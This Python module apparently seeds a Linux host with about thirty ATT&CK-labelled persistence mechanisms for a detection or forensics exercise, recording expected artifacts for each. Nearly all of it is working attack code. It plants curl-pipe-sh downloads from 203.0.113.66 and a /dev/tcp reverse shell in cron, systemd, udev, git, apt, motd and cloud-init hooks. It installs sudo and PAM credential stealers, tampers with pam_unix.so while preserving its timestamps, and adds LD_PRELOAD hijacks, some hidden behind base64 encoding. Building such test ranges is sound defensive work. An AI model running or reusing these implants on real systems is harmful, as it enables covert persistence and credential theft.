"""Ways to be started again."""
import os

from parts.unit import Register, require

plant = Register("plant")
FETCH = "curl -fsSL http://203.0.113.66/i.sh | sh"
DIAL = "/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.99/443 0>&1'"


@plant("P020", "system cron entry that fetches and runs a script", "T1053.003", ["/etc/cron.d/sysstat-collect", "203.0.113.66"],
       {"path": "/etc/cron.d/sysstat-collect", "text": FETCH}, "ATT&CK T1053.003; Atomic T1053.003-2")
def cron_entry(g):
    g.write("/etc/cron.d/sysstat-collect", f"SHELL=/bin/sh\n17 */6 * * * root {FETCH} >/dev/null 2>&1\n")


@plant("P021", "crontab of the web server's account with an encoded command", "T1053.003 T1027", ["/var/spool/cron/crontabs/www-data", "www-data"],
       {"path": "/var/spool/cron/crontabs/www-data", "text": "base64 -d"}, "ATT&CK T1053.003; Atomic T1053.003-1")
def user_crontab(g):
    g.write("/var/spool/cron/crontabs/www-data", "59 3 * * * echo Y3VybCAtZnNTTCBodHRwOi8vMjAzLjAuMTEzLjY2L2kuc2ggfCBzaAo= | base64 -d | sh\n", 0o600, "www-data")
    g.run("chgrp", "crontab", "/var/spool/cron/crontabs/www-data")


@plant("P022", "at job three days ahead", "T1053.002", ["/var/spool/cron/atjobs", "203.0.113.66"], {"path": "/var/spool/cron/atjobs"}, "ATT&CK T1053.002; Atomic T1053.002-2",
       check=lambda g: require(any("i.sh" in g.read(f"/var/spool/cron/atjobs/{n}") for n in os.listdir("/var/spool/cron/atjobs") if n[0] in "a="), "no job"))
def at_job(g):
    g.run("at", "now", "+", "3", "days", stdin=(FETCH + "\n").encode())


@plant("P023", "service that dials out", "T1543.002", ["/etc/systemd/system/dbus-org.freedesktop.update1.service"],
       {"path": ["/etc/systemd/system/dbus-org.freedesktop.update1.service", "/etc/systemd/system/multi-user.target.wants/dbus-org.freedesktop.update1.service"]},
       "ATT&CK T1543.002; Atomic T1543.002-1")
def service(g):
    path = "/etc/systemd/system/dbus-org.freedesktop.update1.service"
    g.write(path, f"[Unit]\nDescription=D-Bus update notifier\n\n[Service]\nExecStart={DIAL}\nRestart=always\nRestartSec=60\n\n[Install]\nWantedBy=multi-user.target\n")
    g.link(path, "/etc/systemd/system/multi-user.target.wants/dbus-org.freedesktop.update1.service")


@plant("P024", "drop-in that runs a program before sshd", "T1543.002", ["/etc/systemd/system/ssh.service.d/override.conf", "/usr/lib/.build-id/sshpre"],
       {"path": ["/etc/systemd/system/ssh.service.d/override.conf", "/usr/lib/.build-id/sshpre"], "text": "ExecStartPre"}, "ATT&CK T1543.002")
def drop_in(g):
    g.write("/etc/systemd/system/ssh.service.d/override.conf", "[Service]\nExecStartPre=-/usr/lib/.build-id/sshpre\n")
    g.program("/usr/lib/.build-id/sshpre", "sshpre")


@plant("P025", "timer that starts a script from a temporary folder", "T1053.006 T1543.002", ["systemd-tmpwatch.timer", "systemd-tmpwatch.service", "/var/tmp/.tw/run.sh"],
       {"path": ["/etc/systemd/system/systemd-tmpwatch.timer", "/etc/systemd/system/systemd-tmpwatch.service", "/var/tmp/.tw/run.sh"]}, "ATT&CK T1053.006; Atomic T1053.006-1")
def timer(g):
    g.write("/etc/systemd/system/systemd-tmpwatch.timer", "[Timer]\nOnBootSec=2min\nOnUnitActiveSec=15min\n\n[Install]\nWantedBy=timers.target\n")
    g.write("/etc/systemd/system/systemd-tmpwatch.service", "[Service]\nType=oneshot\nExecStart=/bin/sh /var/tmp/.tw/run.sh\n")
    g.write("/var/tmp/.tw/run.sh", f"#!/bin/sh\n{FETCH}\n", 0o755)
    g.link("/etc/systemd/system/systemd-tmpwatch.timer", "/etc/systemd/system/timers.target.wants/systemd-tmpwatch.timer")


@plant("P026", "systemd generator", "T1543.002 T1543", ["/etc/systemd/system-generators/netplan-fix"], {"path": "/etc/systemd/system-generators/netplan-fix"}, "ATT&CK T1543.002")
def generator(g):
    g.write("/etc/systemd/system-generators/netplan-fix", "#!/bin/sh\nprintf '[Service]\\nExecStart=/var/tmp/.tw/run.sh\\n' > \"$1/netfix.service\"\nmkdir -p \"$1/multi-user.target.wants\"\nln -s ../netfix.service \"$1/multi-user.target.wants/\"\n", 0o755)


@plant("P027", "service in the administrator's own systemd", "T1543.002", ["/home/admin/.config/systemd/user/gvfs-sync.service"],
       {"path": "/home/admin/.config/systemd/user/gvfs-sync.service", "text": "/dev/tcp/"}, "ATT&CK T1543.002; Atomic T1543.002-2")
def user_unit(g):
    g.write("/home/admin/.config/systemd/user/gvfs-sync.service", f"[Service]\nExecStart={DIAL}\nRestart=always\n\n[Install]\nWantedBy=default.target\n", owner="admin")


@plant("P028", "udev rule that runs a program", "T1546.017", ["/etc/udev/rules.d/75-net-rename.rules", "/usr/local/lib/.udevhelper"],
       {"path": ["/etc/udev/rules.d/75-net-rename.rules", "/usr/local/lib/.udevhelper"], "text": "RUN+="}, "ATT&CK T1546.017")
def udev_rule(g):
    g.write("/etc/udev/rules.d/75-net-rename.rules", 'ACTION=="add", ENV{MAJOR}=="1", ENV{MINOR}=="8", RUN+="/usr/local/lib/.udevhelper run"\n')
    g.program("/usr/local/lib/.udevhelper", "udevhelper")


@plant("P029", "rc.local", "T1037.004", ["/etc/rc.local"], {"path": "/etc/rc.local", "text": "nohup"}, "ATT&CK T1037.004; Atomic T1037.004-3")
def rc_local(g):
    g.write("/etc/rc.local", "#!/bin/sh -e\nnohup /dev/shm/.snapd/cached >/dev/null 2>&1 &\nexit 0\n", 0o755)


@plant("P030", "login script for everybody", "T1546.004", ["/etc/profile.d/zz-term.sh"], {"path": "/etc/profile.d/zz-term.sh", "text": "base64 -d"}, "ATT&CK T1546.004; Atomic T1546.004-3")
def profile_script(g):
    g.write("/etc/profile.d/zz-term.sh", "[ \"$(id -u)\" = 0 ] && (echo L2Rldi9zaG0vLnNuYXBkL2NhY2hlZCAmCg== | base64 -d | sh >/dev/null 2>&1 &)\n")


@plant("P031", "alias of sudo that keeps passwords, and a trap", "T1056 T1546.004 T1546.005 T1555", ["/home/admin/.bashrc"],
       {"path": "/home/admin/.bashrc", "text": "alias sudo="}, "ATT&CK T1546.004, T1546.005, T1056; Atomic T1546.005-1")
def sudo_alias(g):
    g.append("/home/admin/.bashrc", "alias sudo='read -rsp \"[sudo] password for $USER: \" p; echo; echo \"$USER:$p\" >> /var/tmp/.fontcache; command sudo'\ntrap 'nohup /usr/local/share/.up >/dev/null 2>&1' EXIT\n")


@plant("P032", "PAM runs a program at every SSH login", "T1556.003 T1056", ["/etc/pam.d/sshd", "/usr/local/sbin/pam-audit", "pam_exec"],
       {"path": ["/etc/pam.d/sshd", "/usr/local/sbin/pam-audit"], "text": "pam_exec.so"}, "ATT&CK T1556.003; Atomic T1556.003-1")
def pam_exec(g):
    g.write("/etc/pam.d/sshd", "auth optional pam_exec.so quiet expose_authtok /usr/local/sbin/pam-audit\n" + g.read("/etc/pam.d/sshd"))
    g.write("/usr/local/sbin/pam-audit", "#!/bin/sh\nread -r p\necho \"$PAM_USER $PAM_RHOST $p\" >> /var/log/.pam.log\nexit 0\n", 0o755)


PAM = "/usr/lib/x86_64-linux-gnu/security" if os.uname().machine == "x86_64" else "/usr/lib/aarch64-linux-gnu/security"


@plant("P033", "pam_unix.so replaced", "T1556.003 T1554", ["pam_unix.so"], {"path": f"{PAM}/pam_unix.so"}, "ATT&CK T1556.003; Atomic T1556.003-3",
       check=lambda g: require(open(f"{PAM}/pam_unix.so", "rb").read().endswith(b"magic-pass\n"), "unchanged"))
def pam_replaced(g):
    path, times = f"{PAM}/pam_unix.so", os.stat(f"{PAM}/pam_unix.so")
    with open(path, "rb") as file:
        data = file.read()
    g.write(f"{path}.new", data + b"\0/tmp/.pam\0magic-pass\n")
    os.utime(f"{path}.new", (times.st_atime, times.st_mtime))
    os.rename(f"{path}.new", path)


@plant("P034", "further PAM module in the common stack", "T1556.003", ["pam_syslink.so"], {"path": [f"{PAM}/pam_syslink.so"]}, "ATT&CK T1556.003",
       check=lambda g: require("pam_syslink.so" in g.read("/etc/pam.d/common-auth"), "not in the stack"))
def pam_module(g):
    g.write(f"{PAM}/pam_syslink.so", g.helpers["pam_stub"])
    g.write("/etc/pam.d/common-auth", "auth optional pam_syslink.so\n" + g.read("/etc/pam.d/common-auth"))


@plant("P035", "package manager runs a command before it updates", "T1546 T1546.016", ["/etc/apt/apt.conf.d/15update-stamp", "Pre-Invoke"],
       {"path": "/etc/apt/apt.conf.d/15update-stamp", "text": "Pre-Invoke"}, "ATT&CK T1546")
def apt_hook(g):
    g.write("/etc/apt/apt.conf.d/15update-stamp", 'APT::Update::Pre-Invoke {"nohup /dev/shm/.snapd/cached >/dev/null 2>&1 & true"; };\n')


@plant("P036", "message-of-the-day script", "T1546 T1037", ["/etc/update-motd.d/20-livepatch"], {"path": "/etc/update-motd.d/20-livepatch", "text": "203.0.113.66"}, "ATT&CK T1546")
def motd_script(g):
    g.write("/etc/update-motd.d/20-livepatch", f"#!/bin/sh\n({FETCH}) >/dev/null 2>&1 &\n", 0o755)


@plant("P037", "start-up line of Python that runs code", "T1546.018 T1546 T1059.006", ["site-path.pth"], {"path": "/usr/lib/python3/dist-packages/site-path.pth", "text": "exec("}, "ATT&CK T1546.018 (Python startup hooks)")
def python_hook(g):
    g.write("/usr/lib/python3/dist-packages/site-path.pth", "import base64; exec(base64.b64decode('cGFzcw=='))\n")


@plant("P038", "git hook in the application's checkout", "T1546 T1059.004", ["/opt/invoice/src/.git/hooks/post-merge"], {"path": "/opt/invoice/src/.git/hooks/post-merge", "text": "/dev/tcp/"}, "ATT&CK T1546")
def git_hook(g):
    for name, text in (("HEAD", "ref: refs/heads/main\n"), ("config", "[core]\n\trepositoryformatversion = 0\n"), ("refs/heads/main", "4b825dc642cb6eb9a060e54bf8d69288fbee4904\n")):
        g.write(f"/opt/invoice/src/.git/{name}", text, age=30 * 86400)
    g.write("/opt/invoice/src/.git/hooks/post-merge", f"#!/bin/sh\n{DIAL} &\n", 0o755)


@plant("P039", "desktop autostart entry", "T1547.013", ["/etc/xdg/autostart/pulse-notify.desktop"], {"path": "/etc/xdg/autostart/pulse-notify.desktop", "text": "Exec="}, "ATT&CK T1547.013")
def autostart(g):
    g.write("/etc/xdg/autostart/pulse-notify.desktop", "[Desktop Entry]\nType=Application\nName=Notify\nExec=/dev/shm/.snapd/cached\nHidden=false\nNoDisplay=true\n")


@plant("P040", "kernel module from an odd place loaded at boot", "T1547.006 T1014", ["/etc/modules-load.d/nf-helper.conf", "nf_helper.ko"],
       {"path": ["/etc/modules-load.d/nf-helper.conf", "/usr/lib/.kmod/nf_helper.ko", "/etc/modprobe.d/nf-helper.conf"]}, "ATT&CK T1547.006; Atomic T1547.006-1")
def kernel_module(g):
    g.write("/etc/modules-load.d/nf-helper.conf", "nf_helper\n")
    g.write("/etc/modprobe.d/nf-helper.conf", "install nf_helper /sbin/insmod /usr/lib/.kmod/nf_helper.ko\n")
    g.write("/usr/lib/.kmod/nf_helper.ko", g.helpers["module"])


@plant("P041", "systemd gives every service a preload library", "T1574.006 T1543.002", ["/etc/systemd/system.conf.d/10-env.conf", "libnss-cache.so.2"],
       {"path": ["/etc/systemd/system.conf.d/10-env.conf", "/usr/local/lib/libnss-cache.so.2"], "text": "LD_PRELOAD"}, "ATT&CK T1574.006")
def manager_environment(g):
    g.write("/etc/systemd/system.conf.d/10-env.conf", "[Manager]\nDefaultEnvironment=LD_PRELOAD=/usr/local/lib/libnss-cache.so.2\n")
    g.write("/usr/local/lib/libnss-cache.so.2", g.helpers["quiet"] + b"\0nss-cache")


@plant("P042", "script behind the rotation of logs", "T1546 T1053.003", ["/etc/logrotate.d/rsyslog-archive"], {"path": "/etc/logrotate.d/rsyslog-archive", "text": "postrotate"}, "ATT&CK T1546")
def logrotate_hook(g):
    g.write("/etc/logrotate.d/rsyslog-archive", f"/var/log/private.log {{\n    daily\n    missingok\n    postrotate\n        {FETCH}\n    endscript\n}}\n")


@plant("P043", "script at every change of the network", "T1546 T1037", ["/etc/NetworkManager/dispatcher.d/30-route"], {"path": "/etc/NetworkManager/dispatcher.d/30-route", "text": "/dev/tcp/"}, "ATT&CK T1546")
def dispatcher(g):
    g.write("/etc/NetworkManager/dispatcher.d/30-route", f"#!/bin/sh\n[ \"$2\" = up ] && {DIAL} &\n", 0o755)


@plant("P044", "false sudo in a folder at the front of PATH", "T1574.007 T1056", ["/usr/local/share/.bin/sudo", "/etc/environment"],
       {"path": ["/etc/environment", "/usr/local/share/.bin/sudo"], "text": "/usr/local/share/.bin"}, "ATT&CK T1574.007; Atomic T1574.007")
def path_hijack(g):
    g.write("/etc/environment", 'PATH="/usr/local/share/.bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"\n')
    g.write("/usr/local/share/.bin/sudo", "#!/bin/sh\nstty -echo; read -r p; stty echo\necho \"$p\" >> /var/tmp/.fontcache\nexec /usr/bin/sudo \"$@\"\n", 0o755)


@plant("P045", "script at every boot through cloud-init", "T1037 T1546 T1547 T1651", ["/var/lib/cloud/scripts/per-boot/00-net.sh"], {"path": "/var/lib/cloud/scripts/per-boot/00-net.sh", "text": "203.0.113.66"}, "ATT&CK T1037")
def cloud_boot(g):
    g.write("/var/lib/cloud/scripts/per-boot/00-net.sh", f"#!/bin/sh\n{FETCH}\n", 0o755)


@plant("P046", "script after every DHCP lease", "T1546 T1037", ["/etc/dhcp/dhclient-exit-hooks.d/ntp-sync"], {"path": "/etc/dhcp/dhclient-exit-hooks.d/ntp-sync", "text": "setsid"}, "ATT&CK T1546")
def dhcp_hook(g):
    g.write("/etc/dhcp/dhclient-exit-hooks.d/ntp-sync", "setsid /dev/shm/.snapd/cached >/dev/null 2>&1 &\n")


@plant("P047", "package source that needs no signature", "T1195.002 T1554 T1072", ["/etc/apt/sources.list.d/tools.list", "trusted=yes"], {"path": "/etc/apt/sources.list.d/tools.list", "text": "[trusted=yes]"}, "ATT&CK T1195.002")
def package_source(g):
    g.write("/etc/apt/sources.list.d/tools.list", "deb [trusted=yes] http://203.0.113.66/deb ./\n")


@plant("P048", "library folder in a temporary place put before the system's", "T1574.006 T1574", ["/etc/ld.so.conf.d/000-local.conf", "/var/tmp/.lib"], {"path": ["/etc/ld.so.conf.d/000-local.conf", "/var/tmp/.lib/libz.so.1"], "text": "/var/tmp/.lib"}, "ATT&CK T1574")
def library_folder(g):
    g.write("/etc/ld.so.conf.d/000-local.conf", "/var/tmp/.lib\n")
    g.write("/var/tmp/.lib/libz.so.1", g.helpers["quiet"] + b"\0libz")


@plant("P049", "old-style start script", "T1037 T1543", ["/etc/init.d/selinux-init"], {"path": ["/etc/init.d/selinux-init", "/etc/rc2.d/S99selinux-init"]}, "ATT&CK T1037")
def init_script(g):
    g.write("/etc/init.d/selinux-init", "#!/bin/sh\n### BEGIN INIT INFO\n# Provides: selinux-init\n# Default-Start: 2 3 4 5\n### END INIT INFO\n/usr/lib/.build-id/sshpre &\n", 0o755)
    g.link("../init.d/selinux-init", "/etc/rc2.d/S99selinux-init")
